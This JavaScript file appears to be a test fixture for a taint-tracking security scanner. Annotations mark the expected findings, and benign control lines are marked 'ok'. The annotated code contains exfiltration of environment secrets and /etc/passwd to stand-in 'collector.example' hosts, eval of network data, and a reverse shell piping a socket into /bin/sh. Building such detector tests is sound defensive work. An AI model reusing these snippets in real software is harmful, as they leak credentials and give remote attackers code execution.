// Sockets, web sockets, data channels, and streams that lead into them.
const axios = require("axios");
const cp = require("child_process");
const dgram = require("dgram");
const fs = require("fs");
const http = require("http");
const io = require("socket.io-client");
const net = require("net");
const socketio = require("socket.io");
const stream = require("stream");
const tls = require("tls");
const ws = require("ws");

const U = "https://collector.example/u";

function tcp() {
  const socket = net.connect(4444, "tcp.collector.example"); //~ capability(NETWORK), endpoint("tcp.collector.example")
  socket.write(process.env.T); //~ source(ENVIRONMENT) f1, sink(egress.socket) f1, finding(traced) f1
  socket.on("data", (chunk) => eval(chunk)); //~ source(NETWORK) f2, sink(exec.code) f2, finding(traced) f2
  eval(socket.read()); //~ source(NETWORK) f3, sink(exec.code) f3, finding(traced) f3
  axios.post(U, socket.setEncoding(process.env.T)); //~ ok
}

function tcpQuiet() {
  const socket = net.connect(4444, "tcp.collector.example"); //~ ok
  socket.write("ping"); //~ ok
  socket.on("connect", () => eval("1")); //~ ok
  axios.post(U, { none: socket.read() === null }); //~ ok
}

function connected() {
  const socket = new net.Socket(); //~ capability(NETWORK)
  socket.connect(4444, "tcp2.collector.example", () => { //~ endpoint("tcp2.collector.example"), capability(NETWORK)
    socket.write(process.env.T); //~ source(ENVIRONMENT) f4, sink(egress.socket) f4, finding(traced) f4
  });
  new net.Socket().connect(4444, "tcp2.collector.example"); //~ ok
}

net.createServer((socket) => { //~ source(NETWORK) f5, capability(NETWORK)
  socket.write(process.env.T); //~ source(ENVIRONMENT) f6, sink(egress.socket) f6, finding(traced) f6
  eval(socket); //~ sink(exec.code) f5, finding(traced) f5
});
net.createServer((socket) => socket.write("pong")); //~ ok
const server = tls.createServer({});
server.on("secureConnection", (socket) => socket.write(process.env.T)); //~ source(ENVIRONMENT) f7, sink(egress.socket) f7, finding(traced) f7
server.on("secureConnection", (socket) => eval(socket)); //~ source(NETWORK) f8, sink(exec.code) f8, finding(traced) f8
server.on("secureConnection", (socket) => socket.write("pong")); //~ ok

function udp() {
  const socket = dgram.createSocket("udp4"); //~ capability(NETWORK)
  socket.send(process.env.T, 53, "udp.collector.example"); //~ source(ENVIRONMENT) f9, sink(egress.socket) f9, finding(traced) f9, capability(NETWORK), endpoint("udp.collector.example")
  socket.send("ping", 53, "udp.collector.example"); //~ ok
  socket.on("message", (message) => eval(message)); //~ source(NETWORK) f10, sink(exec.code) f10, finding(traced) f10
  socket.on("error", () => eval("1")); //~ ok
  dgram.createSocket("udp4"); //~ ok
}

function webSocket() {
  const socket = new WebSocket("wss://ws.collector.example"); //~ capability(NETWORK), endpoint("wss://ws.collector.example")
  socket.send(process.env.T); //~ source(ENVIRONMENT) f11, sink(egress.message) f11, finding(traced) f11
  socket.onmessage = (event) => eval(event.data); //~ source(NETWORK) f12, sink(exec.code) f12, finding(traced) f12
  socket.addEventListener("message", (event) => eval(event.data)); //~ source(NETWORK) f13, sink(exec.code) f13, finding(traced) f13
}

function webSocketQuiet() {
  const socket = new WebSocket("wss://ws.collector.example"); //~ ok
  socket.send("ping"); //~ ok
  socket.onmessage = () => eval("1"); //~ ok
  socket.addEventListener("open", () => eval("1")); //~ ok
}

const hub = new ws.Server({ port: 80 }); //~ capability(NETWORK)
hub.on("connection", (socket, request) => { //~ source(NETWORK) f14
  socket.send(process.env.T); //~ source(ENVIRONMENT) f15, sink(egress.message) f15, finding(traced) f15
  eval(request.headers.x); //~ sink(exec.code) f14, finding(traced) f14
});
new ws.Server({ port: 81 }).on("connection", (socket) => socket.send("hi")); //~ ok

function eventSource() {
  const source = new EventSource("https://es.collector.example"); //~ capability(NETWORK), endpoint("https://es.collector.example")
  source.addEventListener("tick", (event) => eval(event.data)); //~ source(NETWORK) f16, sink(exec.code) f16, finding(traced) f16
  new EventSource("https://es.collector.example").addEventListener("tick", () => eval("1")); //~ ok
}

function peer() {
  const connection = new RTCPeerConnection({}); //~ capability(NETWORK)
  const channel = connection.createDataChannel("c");
  channel.send(process.env.T); //~ source(ENVIRONMENT) f17, sink(egress.message) f17, finding(traced) f17
  channel.onmessage = (event) => eval(event.data); //~ source(NETWORK) f18, sink(exec.code) f18, finding(traced) f18
  connection.addTrack(process.env.T); //~ source(ENVIRONMENT) f19, sink(egress.message) f19, finding(traced) f19
  const quiet = new RTCPeerConnection({}).createDataChannel("c"); //~ ok
  quiet.send("ping"); //~ ok
  quiet.onmessage = () => eval("1"); //~ ok
  new RTCPeerConnection({}).addTrack(null); //~ ok
}

function socketIo() {
  const socket = io("https://io.collector.example"); //~ capability(NETWORK), endpoint("https://io.collector.example")
  socket.emit("report", process.env.T); //~ source(ENVIRONMENT) f20, sink(egress.message) f20, finding(traced) f20
  socket.on("run", (data) => eval(data)); //~ source(NETWORK) f21, sink(exec.code) f21, finding(traced) f21
  socket.emit("report", "ping"); //~ ok
  socket.on("connect", () => eval("1")); //~ ok
  require("socket.io-client")("https://io.collector.example"); //~ ok
}

const rooms = new socketio.Server(80); //~ capability(NETWORK)
rooms.on("connection", (socket) => {
  socket.on("run", (data) => eval(data)); //~ source(NETWORK) f22, sink(exec.code) f22, finding(traced) f22
});
rooms.emit("all", process.env.T); //~ source(ENVIRONMENT) f23, sink(egress.message) f23, finding(traced) f23
rooms.emit("all", "ping"); //~ ok
new socketio.Server(81).on("connection", (socket) => socket.emit("hi", "ping")); //~ ok

function piped() {
  fs.createReadStream("/etc/passwd").pipe(http.request(U)); //~ source(FILE) f24, sink(egress.http) f24, finding(traced) f24
  fs.createReadStream("/etc/passwd").pipe(net.connect(80, "h")); //~ source(FILE) f25, sink(egress.socket) f25, finding(traced) f25
  axios.get(U).data.pipe(cp.spawn("sh").stdin); //~ source(NETWORK) f26, sink(exec.command) f26, finding(traced) f26
  axios.get(U).data.pipe(fs.createWriteStream("/tmp/new1")); //~ source(NETWORK) f27, sink(file.write) f27, finding(traced) f27
  fs.createReadStream("/etc/passwd").pipe(process.stdout); //~ ok
  fs.createReadStream("/etc/hosts").pipe(new stream.PassThrough()).on("data", (chunk) => { //~ source(FILE) f28
    axios.post(U, chunk); //~ sink(egress.http) f28, finding(traced) f28
  });
}

function pipeline() {
  stream.pipeline(fs.createReadStream("/etc/passwd"), http.request(U)); //~ source(FILE) f29, sink(egress.http) f29, finding(traced) f29
  stream.pipeline(fs.createReadStream("/etc/passwd"), net.connect(80, "h")); //~ source(FILE) f30, sink(egress.socket) f30, finding(traced) f30
  stream.pipeline(axios.get(U).data, fs.createWriteStream("/tmp/new2")); //~ source(NETWORK) f31, sink(file.write) f31, finding(traced) f31
  stream.pipeline(fs.createReadStream("/etc/passwd"), process.stdout); //~ ok
  const middle = new stream.PassThrough();
  stream.pipeline(fs.createReadStream("/etc/hosts"), middle); //~ source(FILE) f32
  middle.on("data", (chunk) => axios.post(U, chunk)); //~ sink(egress.http) f32, finding(traced) f32
}

function shell() {
  const sh = cp.spawn("/bin/sh", []);
  const client = new net.Socket(); //~ source(NETWORK) fshell
  client.connect(4444, "shell.collector.example", () => {
    client.pipe(sh.stdin); //~ sink(exec.command) fshell, finding(traced) fshell
  });
  const other = net.connect(4444, "shell.collector.example"); //~ source(NETWORK) fshell2
  other.pipe(sh.stdin); //~ sink(exec.command) fshell2, finding(traced) fshell2
  net.connect(4444, "shell.collector.example").pipe(process.stdout); //~ ok
}

function download() {
  http.get(U, (answer) => { //~ source(NETWORK) fdown
    const file = fs.createWriteStream("/tmp/new3");
    answer.pipe(file); //~ sink(file.write) fdown, finding(traced) fdown
    answer.pipe(process.stdout); //~ ok
  });
}

class Own extends stream.Writable {
  _write(chunk, encoding, next) {
    axios.post(U, chunk); //~ sink(egress.http) fown, finding(traced) fown
  }
}

function ownStreams() {
  fs.createReadStream("/etc/passwd").pipe(new Own()); //~ source(FILE) fown
  const made = new stream.Writable({ write: (chunk) => axios.post(U, chunk) }); //~ sink(egress.http) fmade, finding(traced) fmade
  fs.createReadStream("/etc/hosts").pipe(made); //~ source(FILE) fmade
  new stream.Writable({ write: (chunk) => axios.post(U, chunk) }); //~ ok
}
